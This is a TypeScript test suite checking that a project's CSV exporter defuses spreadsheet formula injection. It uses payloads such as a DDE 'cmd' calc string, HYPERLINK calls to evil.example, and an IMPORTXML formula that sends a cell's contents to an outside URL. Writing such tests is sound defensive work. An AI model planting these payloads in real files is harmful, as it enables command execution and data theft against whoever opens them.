// The one CSV writer: whatever text a cell holds, a spreadsheet reading the file back
// (RFC 4180) sees no cell that starts a formula, and sees the text itself behind the one
// apostrophe the writer adds. Checked by property over generated cells, over the audit's
// formula starts crossed with payloads, and through the highlights and events exports.
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { exportCsv } from '../../src/core/export/csv';
import { defaultCodebook } from '../../src/shared/codebook/codebook';
import { exportEventsCsv } from '../../src/core/export/events';
import type { Snapshot } from '../../src/core/export/snapshot';
import { csvCell, csvFile, FORMULA_START } from '../../src/shared/csv';
import type { TimelineEvent } from '../../src/shared/methods/events';
import type { Annotation, Document, Entity } from '../../src/shared/model';
import { FORMULA_STARTS, readCsv } from '../fixtures/read-csv';

const live = (cell: string): boolean => FORMULA_START.test(cell);

describe('a CSV cell', () => {
  it('never reads back as a formula, and reads back as its text behind one apostrophe', () => {
    const cellText = fc.oneof(
      fc.string({ unit: 'grapheme-composite', maxLength: 40 }),
      fc
        .tuple(fc.constantFrom(...FORMULA_STARTS), fc.string({ unit: 'binary', maxLength: 40 }))
        .map(([start, rest]) => start + rest),
    );
    fc.assert(
      fc.property(fc.array(cellText, { minLength: 1, maxLength: 6 }), (cells) => {
        const read = readCsv(csvFile([cells]))[0]!;
        return (
          read.length === cells.length &&
          read.every(
            (cell, i) => !live(cell) && cell === (live(cells[i]!) ? `'${cells[i]}` : cells[i]),
          )
        );
      }),
      { numRuns: 500 },
    );
  });

  it('defuses every formula start of the audit, whatever follows it', () => {
    const payloads = [
      '1+1',
      'cmd|" /C calc"!A0',
      'HYPERLINK("http://evil.example","x")',
      'SUM(A1:A9)',
      '3',
      '(1)',
      ' a list item',
      '=1',
      '',
      'IMPORTXML(CONCAT("http://x/?", A1), "//a")',
    ];
    const cells = FORMULA_STARTS.flatMap((s) =>
      payloads.flatMap((p) => [s + p, s + s + p, `${s} ${p}`]),
    );
    const read = readCsv(csvFile([cells]))[0]!;
    expect(read.filter(live)).toEqual([]);
    expect(read.length).toBe(cells.length);
  });

  it('writes our own numbers as numbers', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell('-3')).toBe("'-3");
    expect(csvCell('- a list')).toBe("'- a list");
  });
});

describe('every CSV export', () => {
  const T = '2026-01-01T00:00:00.000Z';
  const hostile = (s: string): string => `${s}HYPERLINK("http://evil.example")`;
  const entity = (id: string, start: string): Entity => ({
    id,
    name: hostile(start),
    type: 'person',
    aliases: [],
    description: hostile(start),
    createdAt: T,
    updatedAt: T,
  });
  const entities = FORMULA_STARTS.map((s, i) => entity(`e${i}`, s));

  it('the highlights and the events carry no live cell (the co-occurrence pairs: tests/renderer)', () => {
    const text = FORMULA_STARTS.map((s) => hostile(s)).join(' ');
    const document: Document = {
      id: 'd1',
      title: hostile('='),
      text,
      blocks: [{ kind: 'paragraph', start: 0, end: text.length }],
      marks: [],
      source: { author: hostile('@'), publisher: hostile('-'), url: hostile('+') },
      format: 'text',
      contentHash: `sha256:${'0'.repeat(64)}`,
      revision: 1,
      createdAt: T,
      updatedAt: T,
    };
    const annotations: Annotation[] = FORMULA_STARTS.map((s, i) => {
      const start = text.indexOf(hostile(s));
      const exact = hostile(s);
      return {
        id: `a${i}`,
        documentId: 'd1',
        target: {
          position: { type: 'TextPositionSelector', start, end: start + exact.length },
          quote: { type: 'TextQuoteSelector', exact, prefix: hostile(s), suffix: hostile(s) },
        },
        entityIds: [`e${i}`],
        tags: [hostile(s)],
        kind: 'quote',
        note: hostile(s),
        status: 'anchored',
        anchoredRevision: 1,
        createdAt: T,
        updatedAt: T,
      };
    });
    const snapshot: Snapshot = {
      entities,
      notes: [],
      documents: [{ document, annotations }],
      codebook: defaultCodebook(),
      links: [],
      exportedAt: T,
    };
    const events: TimelineEvent[] = entities.map((e) => ({
      entity: e,
      place: { id: 'p', name: hostile('\t') },
      participants: [{ id: 'x', name: hostile('\r'), role: hostile('\0') }],
      evidence: [],
    }));
    for (const file of [exportCsv(snapshot), exportEventsCsv(events)]) {
      const cells = readCsv(file).flat();
      expect(cells.length).toBeGreaterThan(20);
      expect(cells.filter(live)).toEqual([]);
    }
  });
});
